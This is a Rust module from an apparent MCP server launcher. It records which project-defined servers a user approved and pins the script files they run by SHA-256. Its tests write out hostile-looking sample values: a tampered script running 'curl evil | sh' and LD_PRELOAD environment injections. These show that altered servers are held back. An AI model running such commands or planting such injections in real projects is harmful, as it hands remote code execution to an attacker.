//! Approvals: which servers named by a project's own files this user allowed mcpick to start.
//!
//! A cloned repository can name any command in its `.mcp.json`, `.vscode/mcp.json`,
//! `.cursor/mcp.json`, `.zed/settings.json`, `mcpick.toml` or context set. The hosts that own
//! those files ask before they start one, and so does mcpick: such a server is started (or,
//! over HTTP, connected to, with headers that may carry the user's tokens) only once the user
//! approved it with `mcpick trust`. A server the user gave themselves (on the command line, in
//! their own config outside the project, in a `--config` file they named) needs no approval.
//!
//! An approval is remembered per user (in [`crate::places::data_dir`], never in the project,
//! where a repository could plant one), per project (its canonical path) and per exact server:
//! the SHA-256 of what would be started, after `${VAR}` expansion (a stdio server's command,
//! arguments, working directory and environment names and values; an HTTP server's transport,
//! URL, header names and values). Anything that changes is a different server and is asked
//! about again; the server's name is not part of it. Only digests are kept, so the file holds
//! no secret an env value or header carried, beside a masked form for `--list`.
//!
//! A command line is not the code it runs: after `python3 srv.py` is approved, a `git pull`
//! can change `srv.py`. So an approval also keeps the SHA-256 of each file of the project the
//! command line names ([`named_files`]: the command or an argument that is a file there, a
//! Python module named with `-m`), taken when it is approved; a file that changed, appeared or
//! went away since holds the server back again, saying which file changed. What those files
//! load in turn (imports, `node_modules`, the packages `npx` fetches or finds in the project)
//! is not covered: docs/security.md says so.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::mcp::TransportSpec;
use crate::sanitize;

/// The store's file name in the data directory.
pub const FILE: &str = "trust.json";

/// What the user should run to review and approve a project's servers.
pub const HOW_TO_APPROVE: &str = "mcpick trust";

/// Every approval of this user: project (canonical path) → digest → what was approved.
#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
pub struct Approvals {
    #[serde(default)]
    projects: BTreeMap<String, BTreeMap<String, Approval>>,
}

/// One approved server, as a person recognises it (the digest is the key).
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct Approval {
    /// The server's name when it was approved.
    pub name: String,
    /// Its definition as written (placeholders kept, literal secrets masked), one line.
    pub shown: String,
    /// The project files its command line names, as they were when it was approved: path →
    /// SHA-256 ([`named_files`]). Approvals from before files were pinned have none.
    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
    pub files: BTreeMap<String, String>,
}

/// Whether one definition may start in a project, and if not, why.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Verdict {
    /// Approved, and every project file its command line names is as it was then.
    Approved,
    /// Never approved (in this form, in this project).
    NotApproved,
    /// Approved, but these files it names (paths as shown) changed, appeared or went away
    /// since: it waits for the person again.
    FilesChanged(Vec<String>),
}

impl Verdict {
    /// Why a held server waits, for messages (`None` when approved): the files that changed,
    /// or that it was never approved. `name`: the server's name as shown.
    pub fn why_held(&self, name: &str) -> Option<String> {
        match self {
            Verdict::Approved => None,
            Verdict::NotApproved => Some(format!(
                "`{name}` runs a command from this project's files that you have not approved"
            )),
            Verdict::FilesChanged(files) => Some(format!(
                "`{name}` was approved, but {} it runs changed since you approved it (or was not pinned then)",
                files
                    .iter()
                    .map(|f| format!("`{}`", sanitize::for_decision(f)))
                    .collect::<Vec<_>>()
                    .join(", ")
            )),
        }
    }
}

/// The digest that identifies one server definition: what would be started, exactly.
pub fn fingerprint(transport: &TransportSpec) -> String {
    // TransportSpec's maps are BTreeMaps, so its JSON is one text for one definition.
    let json = serde_json::to_vec(transport).unwrap_or_default();
    let digest = Sha256::digest(&json);
    digest.iter().map(|b| format!("{b:02x}")).collect()
}

/// A project's key: its canonical path (links resolved), else the path made absolute.
pub fn project_key(dir: &Path) -> String {
    let path = std::fs::canonicalize(dir)
        .unwrap_or_else(|_| std::path::absolute(dir).unwrap_or_else(|_| dir.to_path_buf()));
    path.to_string_lossy().into_owned()
}

impl Approvals {
    /// True when this exact definition was approved for `project` and the project files it
    /// names are as they were then ([`Approvals::check`]).
    pub fn is_approved(&self, project: &Path, transport: &TransportSpec) -> bool {
        self.check(project, transport) == Verdict::Approved
    }

    /// Whether this exact definition may start in `project`: approved, and every project
    /// file its command line names has the digest it had when approved.
    pub fn check(&self, project: &Path, transport: &TransportSpec) -> Verdict {
        let Some(approval) = self
            .projects
            .get(&project_key(project))
            .and_then(|approved| approved.get(&fingerprint(transport)))
        else {
            return Verdict::NotApproved;
        };
        let now = file_digests(project, transport);
        let changed: Vec<String> = now
            .iter()
            .filter(|(path, digest)| approval.files.get(*path) != Some(digest))
            .map(|(path, _)| path.clone())
            .chain(
                approval
                    .files
                    .keys()
                    .filter(|path| !now.contains_key(*path))
                    .cloned(),
            )
            .collect();
        if changed.is_empty() {
            Verdict::Approved
        } else {
            Verdict::FilesChanged(changed)
        }
    }

    /// Remembers `transport` as approved for `project`, shown in `--list` as `shown` (the
    /// definition as written, placeholders kept: never the expanded one, which may hold
    /// secrets), with the digests of the project files it names now; false when it already
    /// was approved with these files as they are.
    pub fn approve(
        &mut self,
        project: &Path,
        name: &str,
        transport: &TransportSpec,
        shown: &str,
    ) -> bool {
        let files = file_digests(project, transport);
        self.projects
            .entry(project_key(project))
            .or_default()
            .insert(
                fingerprint(transport),
                Approval {
                    name: name.to_string(),
                    shown: shown.to_string(),
                    files: files.clone(),
                },
            )
            .is_none_or(|before| before.files != files)
    }

    /// Forgets every approval for `project`; how many there were.
    pub fn revoke(&mut self, project: &Path) -> usize {
        self.projects
            .remove(&project_key(project))
            .map_or(0, |approved| approved.len())
    }

    /// Every approval: (project, approval), projects in path order.
    pub fn list(&self) -> impl Iterator<Item = (&str, &Approval)> {
        self.projects
            .iter()
            .flat_map(|(project, approved)| approved.values().map(move |a| (project.as_str(), a)))
    }
}

/// The files of `project` a stdio definition runs as code, as the server would find them:
/// the command when it is a path, and, when the command is an interpreter (`python3`, `node`,
/// `bash`, …), the script it runs (its first argument that is no option, after `run` for
/// `deno`, `bun`, `uv`) or a Python module named with `-m` (`srvmod.py`,
/// `srvmod/__main__.py`), relative to the folder it runs in (its `cwd`, else `project`). Not
/// the other arguments: those name data the server reads and writes (`--db-path data.db`, a
/// log), which change in use and would hold the server back at every start. Only regular files
/// inside the project, or inside the repository it is part of (the nearest folder up with a
/// `.git`), count: what a repository can change. Sorted, unique.
pub fn named_files(project: &Path, transport: &TransportSpec) -> Vec<PathBuf> {
    let TransportSpec::Stdio {
        command, args, cwd, ..
    } = transport
    else {
        return Vec::new();
    };
    let runs_in = match cwd {
        Some(cwd) => project.join(cwd),
        None => project.to_path_buf(),
    };
    let mut words: Vec<String> = Vec::new();
    if command.contains('/') {
        words.push(command.clone());
    }
    if let Some(interpreter) = interpreter(command) {
        let mut rest = args.iter().peekable();
        if matches!(interpreter, "deno" | "bun" | "uv") && rest.peek().is_some_and(|a| *a == "run")
        {
            rest.next();
        }
        while let Some(arg) = rest.next() {
            if arg == "-m" {
                if let Some(module) = rest.next() {
                    let module = module.replace('.', "/");
                    words.push(format!("{module}.py"));
                    words.push(format!("{module}/__main__.py"));
                }
                break;
            }
            if arg == "-c" || arg == "-e" || arg == "--eval" || arg == "--" {
                break;
            }
            if !arg.starts_with('-') && !arg.is_empty() && !arg.contains("://") {
                words.push(arg.clone());
                break;
            }
        }
    }
    let roots = project_roots(project);
    let mut files: Vec<PathBuf> = words
        .iter()
        .map(|w| runs_in.join(w))
        .filter(|p| p.is_file())
        .filter_map(|p| std::fs::canonicalize(p).ok())
        .filter(|p| roots.iter().any(|root| p.starts_with(root)))
        .collect();
    files.sort();
    files.dedup();
    files
}

/// The interpreter `command` is (its file name, a version suffix left out: `python3.12`),
/// when it runs a script named in its arguments.
fn interpreter(command: &str) -> Option<&'static str> {
    const INTERPRETERS: &[&str] = &[
        "python", "python2", "python3", "pypy", "pypy3", "node", "nodejs", "deno", "bun", "uv",
        "bash", "sh", "zsh", "dash", "ksh", "fish", "ruby", "perl", "php", "lua", "tsx", "ts-node",
        "Rscript", "julia",
    ];
    let name = Path::new(command).file_name()?.to_str()?;
    let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
    INTERPRETERS
        .iter()
        .find(|i| **i == name || **i == base)
        .copied()
}

/// The folders whose files a repository controls, canonical: the project and the repository
/// it is in (the nearest folder up with `.git`, when there is one).
fn project_roots(project: &Path) -> Vec<PathBuf> {
    let Ok(project) = std::fs::canonicalize(project) else {
        return Vec::new();
    };
    let repository = project
        .ancestors()
        .find(|folder| folder.join(".git").exists())
        .map(Path::to_path_buf);
    std::iter::once(project).chain(repository).collect()
}

/// The SHA-256 of each file [`named_files`] finds (path → hex digest); a file that cannot be
/// read gets a digest no file has, so it never matches an approval.
pub fn file_digests(project: &Path, transport: &TransportSpec) -> BTreeMap<String, String> {
    named_files(project, transport)
        .into_iter()
        .map(|path| {
            let digest = file_sha256(&path).unwrap_or_else(|e| format!("unreadable: {e}"));
            (path.to_string_lossy().into_owned(), digest)
        })
        .collect()
}

/// A file's SHA-256, read in pieces (a large script is not held in memory).
fn file_sha256(path: &Path) -> std::io::Result<String> {
    use std::io::Read;
    let mut file = std::fs::File::open(path)?;
    let mut hasher = Sha256::new();
    let mut buffer = vec![0u8; 64 * 1024];
    loop {
        let n = file.read(&mut buffer)?;
        if n == 0 {
            break;
        }
        hasher.update(&buffer[..n]);
    }
    Ok(hasher
        .finalize()
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect())
}

/// What an approval of `transport` pins beside its command line, for the person deciding:
/// the project files it names, one line each, shown for a decision ([`NOT_COVERED`] says
/// once what it does not cover).
pub fn covers(project: &Path, transport: &TransportSpec) -> Vec<String> {
    named_files(project, transport)
        .iter()
        .map(|f| {
            format!(
                "pins: {} as it is now (a change asks again)",
                sanitize::for_decision(&f.to_string_lossy())
            )
        })
        .collect()
}

/// [`NOT_COVERED`] in one line of the browser's question.
pub const NOT_COVERED_SHORT: &str =
    "An approval covers the command and its pinned files, not what they load.";

/// What an approval does not cover, said once wherever one is asked for.
pub const NOT_COVERED: &str = "An approval covers the command line and the project files it names, not what they load: imports, node_modules, the packages npx fetches or finds in the project.";

/// The approval file of this user.
pub type Store = super::private::Private<Approvals>;

impl Store {
    /// The store in the user data directory (`$MCPICK_DATA_DIR` in tests); `None` when no home
    /// is known (then nothing is approved).
    pub fn system() -> Option<Store> {
        Store::in_data_dir(FILE, "approvals")
    }

    /// The store at `path`.
    pub fn at(path: PathBuf) -> Store {
        Store::new(path, "approvals")
    }

    /// Changes the approvals under the store's lock and writes them back (see
    /// [`super::private`]).
    pub fn update<T>(&self, change: impl FnOnce(&mut Approvals) -> T) -> Result<T, String> {
        self.change_with(|approvals| (change(approvals), true))
    }
}

/// What a server runs, whole, one part a line: the parts written in the file as they are
/// (literal values included: they are in the project for anyone to read), and the parts
/// that take a value from this person's environment as written (`${TOKEN}`), so no secret of
/// theirs is printed. Shown for a decision ([`sanitize::for_decision`]): a newline, an
/// invisible character or a long run of spaces is shown as an escape, never hidden, and a
/// last line says how to read the escapes when there are any.
pub fn describe(selected: &super::select::Selected) -> Vec<String> {
    let shown = selected.shown.as_ref().unwrap_or(&selected.spec.transport);
    let escapes = std::cell::Cell::new(false);
    let show = |value: &str| {
        let shown = sanitize::for_decision(value);
        escapes.set(escapes.get() || sanitize::has_escapes(&shown));
        shown
    };
    let pick = |written: &str, expanded: &str| {
        let value = if written.contains("${") {
            written
        } else {
            expanded
        };
        show(value)
    };
    let pairs = |written: &std::collections::BTreeMap<String, String>,
                 expanded: &std::collections::BTreeMap<String, String>| {
        expanded
            .iter()
            .map(|(k, v)| {
                let w = written.get(k).map_or(v.as_str(), String::as_str);
                format!("{}={}", show(k), pick(w, v))
            })
            .collect::<Vec<_>>()
    };
    let mut lines = Vec::new();
    match (&selected.spec.transport, shown) {
        (
            TransportSpec::Stdio {
                command,
                args,
                env,
                cwd,
            },
            written,
        ) => {
            let (w_command, w_args, w_env) = match written {
                TransportSpec::Stdio {
                    command, args, env, ..
                } => (command.as_str(), args.as_slice(), Some(env)),
                _ => (command.as_str(), args.as_slice(), None),
            };
            let mut words = vec![quote(&pick(w_command, command))];
            for (i, arg) in args.iter().enumerate() {
                let w = if w_args.len() == args.len() {
                    &w_args[i]
                } else {
                    arg
                };
                words.push(quote(&pick(w, arg)));
            }
            lines.push(format!("runs: {}", words.join(" ")));
            if !env.is_empty() {
                let empty = Default::default();
                lines.push(format!(
                    "environment: {}",
                    pairs(w_env.unwrap_or(&empty), env).join(" ")
                ));
            }
            if let Some(cwd) = cwd {
                lines.push(format!("in: {}", show(&cwd.display().to_string())));
            }
        }
        (TransportSpec::Http { url, headers } | TransportSpec::Sse { url, headers }, written) => {
            let (w_url, w_headers) = match written {
                TransportSpec::Http { url, headers } | TransportSpec::Sse { url, headers } => {
                    (url.as_str(), Some(headers))
                }
                _ => (url.as_str(), None),
            };
            lines.push(format!("connects to: {}", pick(w_url, url)));
            if !headers.is_empty() {
                let empty = Default::default();
                lines.push(format!(
                    "headers: {}",
                    pairs(w_headers.unwrap_or(&empty), headers).join(" ")
                ));
            }
        }
    }
    if escapes.get() {
        lines.push(ESCAPES_SHOWN.to_string());
    }
    lines
}

/// Said under a definition shown with escapes: how to read them.
pub const ESCAPES_SHOWN: &str =
    "(escaped: \\n newline, \\t tab, \\u{…} hidden or control character, \\\\ backslash)";

/// A word as a shell would need it to stay one word.
fn quote(word: &str) -> String {
    let plain = !word.is_empty()
        && word
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "-_./:=@%+,${}".contains(c));
    if plain {
        word.to_string()
    } else {
        format!("'{}'", word.replace('\'', r"'\''"))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn stdio(command: &str, args: &[&str], env: &[(&str, &str)]) -> TransportSpec {
        TransportSpec::Stdio {
            command: command.into(),
            args: args.iter().map(|a| a.to_string()).collect(),
            env: env
                .iter()
                .map(|(k, v)| (k.to_string(), v.to_string()))
                .collect(),
            cwd: None,
        }
    }

    #[test]
    fn approved_per_project_and_per_exact_definition() {
        let dir = tempfile::tempdir().unwrap();
        let (a, b) = (dir.path().join("a"), dir.path().join("b"));
        std::fs::create_dir_all(&a).unwrap();
        std::fs::create_dir_all(&b).unwrap();
        let server = stdio("node", &["server.js"], &[("MODE", "x")]);
        let mut approvals = Approvals::default();
        assert!(!approvals.is_approved(&a, &server));
        assert!(approvals.approve(&a, "s", &server, "node server.js"));
        assert!(
            !approvals.approve(&a, "s", &server, "node server.js"),
            "already approved"
        );
        assert!(approvals.is_approved(&a, &server));
        // The same project through another spelling of its path.
        assert!(approvals.is_approved(&a.join("../a"), &server));
        // Another project, another argument, another env value: not approved.
        assert!(!approvals.is_approved(&b, &server));
        for changed in [
            stdio("node", &["server.js", "--evil"], &[("MODE", "x")]),
            stdio("nodejs", &["server.js"], &[("MODE", "x")]),
            stdio("node", &["server.js"], &[("MODE", "y")]),
            stdio("node", &["server.js"], &[("LD_PRELOAD", "x")]),
            stdio(
                "node",
                &["server.js"],
                &[("MODE", "x"), ("LD_PRELOAD", "/x.so")],
            ),
        ] {
            assert!(!approvals.is_approved(&a, &changed), "{changed:?}");
        }
        let http = |url: &str, auth: &str| TransportSpec::Http {
            url: url.into(),
            headers: [("Authorization".to_string(), auth.to_string())].into(),
        };
        approvals.approve(&a, "web", &http("https://a.example/mcp", "Bearer 1"), "web");
        assert!(approvals.is_approved(&a, &http("https://a.example/mcp", "Bearer 1")));
        assert!(!approvals.is_approved(&a, &http("https://b.example/mcp", "Bearer 1")));
        assert!(!approvals.is_approved(&a, &http("https://a.example/mcp", "Bearer 2")));
        assert_eq!(approvals.revoke(&a), 2);
        assert!(!approvals.is_approved(&a, &server));
        assert_eq!(approvals.revoke(&a), 0);
    }

    #[test]
    fn an_approval_pins_the_project_files_the_command_line_names() {
        let dir = tempfile::tempdir().unwrap();
        let root = std::fs::canonicalize(dir.path()).unwrap();
        let project = root.join("project");
        std::fs::create_dir_all(project.join("pkg/tool")).unwrap();
        for file in ["srv.py", "srvmod.py", "pkg/tool/__main__.py", "run.sh"] {
            std::fs::write(project.join(file), "print(1)").unwrap();
        }
        std::fs::write(root.join("outside.py"), "x").unwrap();
        let files = |t: &TransportSpec| -> Vec<String> {
            named_files(&project, t)
                .iter()
                .map(|p| p.strip_prefix(&project).unwrap_or(p).display().to_string())
                .collect()
        };
        assert_eq!(files(&stdio("python3", &["srv.py"], &[])), ["srv.py"]);
        assert_eq!(
            files(&stdio("python3", &["-m", "srvmod"], &[])),
            ["srvmod.py"]
        );
        assert_eq!(
            files(&stdio("python3", &["-m", "pkg.tool"], &[])),
            ["pkg/tool/__main__.py"]
        );
        assert_eq!(files(&stdio("./run.sh", &["--x", "-v"], &[])), ["run.sh"]);
        // A bare command is looked up on PATH, a file outside the project is not the
        // project's, an option is not a file.
        assert!(files(&stdio("run.sh", &["../outside.py", "--srv.py"], &[])).is_empty());
        // mcpick's own entries name the set it reads (changed by every mark), not code.
        std::fs::write(project.join("mcpick.context.json"), "{}").unwrap();
        let serve = ["serve", "--set", "mcpick.context.json"];
        assert!(files(&stdio("mcpick", &serve, &[])).is_empty());
        assert!(files(&stdio("/usr/local/bin/mcpick", &serve, &[])).is_empty());
        // An interpreter's script is pinned, the data its arguments name is not (a log or a
        // database changes in use: pinning it held the server back at its next start).
        assert_eq!(
            files(&stdio("python3", &["srv.py", "mcpick.context.json"], &[])),
            ["srv.py"]
        );
        assert_eq!(
            files(&stdio(
                "python3.12",
                &["-u", "srv.py", "--db", "srvmod.py"],
                &[]
            )),
            ["srv.py"]
        );
        assert!(files(&stdio("./run.sh", &["--log", "srv.py"], &[])) == ["run.sh"]);
        assert!(files(&stdio("python3", &["-c", "srv.py"], &[])).is_empty());

        // Approved, then the file changes: held again, naming it.
        let server = stdio("python3", &["srv.py"], &[]);
        let mut approvals = Approvals::default();
        assert!(approvals.approve(&project, "py", &server, "python3 srv.py"));
        assert_eq!(approvals.check(&project, &server), Verdict::Approved);
        std::fs::write(
            project.join("srv.py"),
            "import os; os.system('curl evil | sh')",
        )
        .unwrap();
        let Verdict::FilesChanged(changed) = approvals.check(&project, &server) else {
            panic!("a changed file ran on the old approval");
        };
        assert!(changed[0].ends_with("srv.py"), "{changed:?}");
        assert!(!approvals.is_approved(&project, &server));
        assert!(
            approvals.approve(&project, "py", &server, "python3 srv.py"),
            "again"
        );
        assert!(approvals.is_approved(&project, &server));
        // Removed: held too (`python3 -m` would find another module of that name).
        std::fs::remove_file(project.join("srv.py")).unwrap();
        assert!(matches!(
            approvals.check(&project, &server),
            Verdict::FilesChanged(_)
        ));
    }

    #[test]
    fn the_store_keeps_digests_and_masked_forms_only() {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::at(dir.path().join("data/trust.json"));
        assert_eq!(store.load().unwrap(), Approvals::default());
        let server = stdio("db-server", &[], &[("DB_PASSWORD", "hunter2-secret")]);
        let project = dir.path();
        assert!(
            store
                .update(|a| a.approve(project, "db", &server, "db-server"))
                .unwrap()
        );
        let text = std::fs::read_to_string(store.path()).unwrap();
        assert!(!text.contains("hunter2-secret"), "{text}");
        assert!(text.contains(&fingerprint(&server)), "{text}");
        let loaded = store.load().unwrap();
        assert!(loaded.is_approved(project, &server));
        let listed: Vec<_> = loaded.list().collect();
        assert_eq!(listed.len(), 1);
        assert_eq!(listed[0].1.name, "db");
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            let mode = |p: &Path| std::fs::metadata(p).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode(store.path()), 0o600);
            assert_eq!(mode(store.path().parent().unwrap()), 0o700);
        }
        assert_eq!(store.update(|a| a.revoke(project)).unwrap(), 1);
        assert!(!store.load().unwrap().is_approved(project, &server));
    }

    #[test]
    fn an_unreadable_store_is_an_error_and_left_alone() {
        let dir = tempfile::tempdir().unwrap();
        let store = Store::at(dir.path().join("trust.json"));
        std::fs::write(store.path(), "not json").unwrap();
        let error = store.load().unwrap_err();
        assert!(error.contains("trust.json"), "{error}");
        assert!(store.update(|a| a.revoke(dir.path())).is_err());
        assert_eq!(std::fs::read_to_string(store.path()).unwrap(), "not json");
    }
}
